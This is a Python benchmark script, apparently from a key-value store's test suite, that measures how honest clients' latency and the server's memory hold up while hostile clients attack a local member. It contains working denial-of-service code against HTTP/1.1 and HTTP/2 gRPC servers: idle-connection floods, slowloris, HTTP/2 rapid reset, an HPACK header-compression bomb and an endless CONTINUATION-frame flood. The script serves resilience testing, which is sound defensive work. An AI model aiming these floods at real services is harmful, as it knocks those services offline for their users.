"""What honest clients notice of hostile ones: the latency of puts and reads at a modest, fixed rate
while nobody else is there, then beside each attack, and what the attack costs the member in memory.
Attackers run only when nobody else wants to, as if on machines of their own. Started by
scripts/bench.sh hostile."""

import os
import pathlib
import random
import resource
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "IntegrationTests"))

import harness  # noqa: E402 (the harness of the integration tests)
import v3_wire  # noqa: E402
import v3bench  # noqa: E402
from v3_client import Client  # noqa: E402
from v3_messages import METHODS, build  # noqa: E402
from v3_wire import (CONTINUATION, END_HEADERS, HEADERS, PREFACE, RESET, frame,  # noqa: E402
                     grpc_headers, settings)

SECONDS = float(os.environ.get("BENCH_SECONDS", "5"))
IDLE = int(os.environ.get("BENCH_IDLE", "10000"))
# Five connections each for puts and reads, so many requests a second on each.
CONNECTIONS, RATE = 5, 50
OPENERS = 4


def attack_idle(address, greeting=b""):
    """Connections that say nothing, or no more than their greeting."""
    sockets = []
    while len(sockets) < IDLE:
        sockets.append(connect(address, greeting))
    ready()
    while True:
        time.sleep(1)


def attack_idle_http2(address):
    attack_idle(address, PREFACE + settings())


def attack_slowloris(address):
    """Two thousand requests whose heads never end; a new one for each that is closed."""
    head = b"GET /v2/keys/a HTTP/1.1\r\nHost: x\r\n"
    sockets = [connect(address, head) for _ in range(2000)]
    ready()
    while True:
        for number, each in enumerate(sockets):
            try:
                each.send(b"X-a: b\r\n"[:random.randrange(1, 9)])
            except OSError:
                each.close()
                sockets[number] = connect(address, head)
        time.sleep(0.5)


def attack_rapid_reset(address):
    """Calls that are taken back at once, as fast as one can."""
    def calls(wire, first):
        block = wire.encoder.encode(grpc_headers("/etcdserverpb.KV/Range"), huffman=False)
        return b"".join(
            frame(HEADERS, END_HEADERS, first + 2 * n, block)
            + frame(RESET, 0, first + 2 * n, b"\0\0\0\x08") for n in range(100))
    again_and_again(address, calls)


def attack_header_bomb(address):
    """One long field in the compression table, then thousands of references to it."""
    value = b"a" * 4000
    entry = b"\x40\x04bomb\x7f" + varint(len(value) - 127) + value

    def bomb(_, first):
        block = entry + b"\xbe" * 12000
        return frame(HEADERS, END_HEADERS, first, block)
    again_and_again(address, bomb)


def attack_continuations(address):
    """A head that never ends."""
    def part(_, first):
        if first == 1:
            return frame(HEADERS, 0, 1, b"\x82")
        return frame(CONTINUATION, 0, 1, b"\x40\x01a\x01b" * 100) * 20
    again_and_again(address, part)


def varint(number):
    found = bytearray()
    while number >= 128:
        found.append(number % 128 + 128)
        number //= 128
    return bytes([*found, number])


def again_and_again(address, make):
    """`make(connection, next stream)` is sent until the member closes, then all over."""
    def run():
        while True:
            try:
                with v3_wire.Connection(address, 5) as wire:
                    first = 1
                    while not wire.closed and first < 2**30:
                        wire.send(make(wire, first))
                        first += 200
            except OSError:
                time.sleep(0.01)
    for _ in range(OPENERS):
        threading.Thread(target=run, daemon=True).start()
    time.sleep(0.5)
    ready()
    while True:
        time.sleep(1)


ATTACKS = {name.removeprefix("attack_").replace("_", " "): function
           for name, function in list(globals().items()) if name.startswith("attack_")}


def connect(address, greeting=b""):
    while True:
        try:
            connection = socket.create_connection(address, 5)
            if greeting:
                connection.sendall(greeting)
            return connection
        except OSError:
            time.sleep(0.01)


def give_way():
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))


def ready():
    print("ready", flush=True)


class Attack:
    """An attacker in a process of its own."""

    def __init__(self, name, member):
        self.words = [sys.executable, __file__, name, *map(str, member.address)]

    def __enter__(self):
        self.process = subprocess.Popen(self.words, stdout=subprocess.PIPE,
                                        preexec_fn=give_way)
        assert self.process.stdout.readline() == b"ready\n", "the attack did not begin"
        return self

    def __exit__(self, *_):
        self.process.kill()
        self.process.wait()


def honest(member):
    """p99 of puts and reads in milliseconds."""
    times = []

    def load(method, fields, place):
        path = f"{place}/{method}"
        data = build(METHODS[method].request, fields).SerializeToString()
        with open(path, "wb") as file:
            file.write(b"\0" + len(data).to_bytes(4, "big") + data)
        done = subprocess.run(
            ["h2load", "-t", "1", "-c", str(CONNECTIONS), "-m", "1", f"--rps={RATE}",
             "-D", f"{SECONDS:g}", "-d", path, "-H", "content-type: application/grpc",
             "-H", "te: trailers", f"--log-file={path}.log",
             f"{member.client}{METHODS[method].path}"],
            capture_output=True, text=True, timeout=SECONDS + 120)
        assert done.returncode == 0, done.stderr
        with open(path + ".log") as log:
            times.extend(int(line.split("\t")[2]) for line in log)

    with tempfile.TemporaryDirectory() as place:
        threads = [threading.Thread(target=load, args=(*request, place)) for request in (
            v3bench.PUT, ("Range", v3bench.RANGE))]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    expected = 2 * CONNECTIONS * RATE * SECONDS
    assert len(times) > expected / 2, f"{len(times)} of {expected:g} requests were answered"
    return sorted(times)[int(len(times) * 0.99)] / 1000


def main():
    member = harness.Member("infra0", directory=tempfile.mkdtemp(dir=v3bench.PLACES["memory"]))
    try:
        member.start().wait_ready()
        with Client(member.client) as client:
            client.put(v3bench.KEY, v3bench.VALUE)
        honest(member)
        print(f"{'attack':>15} │ {'p99 ms quiet':>12} {'beside it':>9} {'×':>5} │ "
              f"{'MiB before':>10} {'peak':>6} {'after':>6}")
        for name in ATTACKS:
            quiet = honest(member)
            before = member.memory_kib() / 1024
            with open(f"/proc/{member.pid}/clear_refs", "w") as file:
                file.write("5")
            with Attack(name, member):
                beside = honest(member)
            peak = member.memory_kib("VmHWM") / 1024
            time.sleep(2)
            print(f"{name:>15} │ {quiet:>12.2f} {beside:>9.2f} {v3bench.ratio(beside, quiet)} │ "
                  f"{before:>10.0f} {peak:>6.0f} {member.memory_kib() / 1024:>6.0f}", flush=True)
            assert member.alive(), member.log_tail()
    finally:
        member.close()
        shutil.rmtree(member.directory, ignore_errors=True)


if __name__ == "__main__":
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65536), hard))
    if len(sys.argv) > 1:
        ATTACKS[sys.argv[1]]((sys.argv[2], int(sys.argv[3])))
    else:
        main()
